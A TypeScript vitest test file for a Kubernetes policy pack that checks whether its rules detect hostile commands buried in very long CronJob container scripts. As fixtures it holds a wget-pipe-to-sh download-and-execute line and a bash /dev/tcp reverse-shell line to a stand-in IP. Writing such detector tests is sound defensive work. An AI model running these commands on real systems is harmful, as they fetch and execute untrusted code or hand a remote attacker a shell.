// Commands that are longer than one evaluation of an expression may cost: judged part by part, and a problem where they are longer still.
import { describe, expect, it } from 'vitest';
import { loadPack } from '../../src/judge/pack.ts';
import { evaluateSpec } from '../../src/policy/evaluate.ts';
import { withLessText } from '../../src/policy/less-text.ts';
import { piecesOf } from '../../src/policy/pieces.ts';
import { change, cronJob } from './policy-manifests.ts';

const PACK = await loadPack();
const LINE = `curl -fsS "https://api.example.com/$id" | jq -r '.a[] | {b, c}' >> "$dir/out"; nc -z db 5432; base64 -d x > y\n`;

function cronJobWith(script: string, field = 'command'): string {
  const pod = ['containers:', '- {name: first, image: a, command: [sleep, 1]}', '- name: second', '  image: b'];
  return cronJob(
    [...pod, `  ${field}: [sh, -c, ${JSON.stringify(script)}]`].map(line => `          ${line}`).join('\n'),
  );
}

function judge(id: string, text: string) {
  const subject = change(null, text);
  const rule = PACK.find(candidate => candidate.id === id);
  if (rule === undefined) throw new Error(`the pack has no rule ${id}`);
  const { hits, problems } = rule.judge(subject);
  return { at: hits.map(hit => hit.at), messages: hits.map(hit => hit.message), problems };
}

function lines(count: number): string {
  return LINE.repeat(Math.ceil(count / LINE.length));
}

describe('a long command', () => {
  it('is not too much for a rule', () => {
    for (const { id } of PACK) expect(judge(id, cronJobWith(lines(60_000))).problems).toEqual([]);
  });

  it.each(['command', 'args'])('is searched to its end, where it is the %s', field => {
    const script = `${lines(40_000)}wget -qO- https://example.com/x | sh\n${lines(40_000)}`;
    const { at, messages, problems } = judge('download-and-execute', cronJobWith(script, field));
    expect(problems).toEqual([]);
    expect(messages).toEqual(['CronJob billing/nightly: the container second downloads code and runs it.']);
    const container = ['spec', 'jobTemplate', 'spec', 'template', 'spec', 'containers', 1];
    expect(at).toEqual([field === 'command' ? [...container, field] : container]);
  });

  it('is searched across the border of its parts', () => {
    for (let shift = 0; shift < 40; shift += 8) {
      const script = `${lines(4_096 * 8)}${'#'.repeat(shift * 100)}\nbash -i >& /dev/tcp/203.0.113.7/443 0>&1\n${lines(9_000)}`;
      expect(judge('reverse-shell', cronJobWith(script)).messages).toHaveLength(1);
    }
  });

  it.each([3_000, 4_060, 4_090, 4_096])('is searched across a line of %i characters', length => {
    const tail = `| sh #${'x'.repeat(length - 6)}`;
    const script = `${lines(60_000)}wget -qO- https://example.com/x \\\n${tail}\n`;
    expect(judge('download-and-execute', cronJobWith(script)).messages).toHaveLength(1);
  });

  it('is cut into few pieces, however its lines end', () => {
    const text = `${'\n'.repeat(1_023)}${'#'.repeat(4_000)}\n`.repeat(20);
    const pieces = [...piecesOf(text, 4_096)];
    expect(pieces.length).toBeLessThan(text.length / 2_000);
    const all = text.split('\n');
    for (const { start, lines: own } of pieces)
      expect(all[start]?.endsWith(own[0] ?? '?') || own.length === 1).toBe(true);
  });

  it('is a problem where it has no end', () => {
    const { messages, problems } = judge('download-and-execute', cronJobWith(lines(300_000)));
    expect(messages).toEqual([]);
    expect(problems.map(({ code }) => code)).toEqual(['rule-error']);
  });

  it('is not cut where nothing else is wrong than its cost', () => {
    const subject = change(null, cronJobWith('sleep 1'));
    const rule = PACK.find(candidate => candidate.id === 'reverse-shell');
    const object = subject.after?.projections[0]?.object;
    if (rule === undefined || object === undefined) throw new Error('no rule, or no object');
    const request = {
      operation: 'CREATE',
      group: 'batch',
      version: 'v1',
      kind: 'CronJob',
      resource: 'cronjobs',
    } as const;
    const malformed = { ...object, spec: 7 };
    const { decisions } = evaluateSpec(
      rule.spec,
      { ...request, namespace: null, name: null, object: malformed, oldObject: null },
      null,
      { namespace: () => null, objects: () => [] },
    );
    expect(decisions.some(decision => decision.kind === 'error' && decision.tooDear === true)).toBe(false);
  });
});

describe('an object with less text', () => {
  it('keeps all but the text, at the same paths', () => {
    const [job] =
      withLessText(
        {
          spec: {
            template: {
              spec: {
                hostPID: true,
                containers: [
                  {
                    name: 'a',
                    image: 'x',
                    command: ['one'],
                    env: [{ name: 'A', value: 'two' }],
                    securityContext: { privileged: true },
                  },
                ],
              },
            },
          },
          kind: 'Job',
        },
        4_096,
      ) ?? [];
    expect(job).toEqual({
      spec: {
        template: {
          spec: {
            hostPID: true,
            containers: [{ name: 'a', image: 'x', securityContext: { privileged: true }, command: ['one\ntwo'] }],
          },
        },
      },
      kind: 'Job',
    });
  });

  it('takes what is malformed as it is', () => {
    const object = { kind: 'Job', spec: { template: { spec: { containers: [7, { command: ['x'], env: 7 }, null] } } } };
    expect(withLessText(object, 4_096)?.length).toBe(1);
  });

  it('is none where there is no text to cut, or too many containers to judge with each part', () => {
    expect(withLessText({ kind: 'Job' }, 4_096)).toBeNull();
    const containers = Array.from({ length: 2_600 }, (_, index) => ({ name: `c${index}`, command: ['curl | a b'] }));
    expect(withLessText({ kind: 'Job', spec: { template: { spec: { containers } } } }, 4_096)).toBeNull();
  });
});
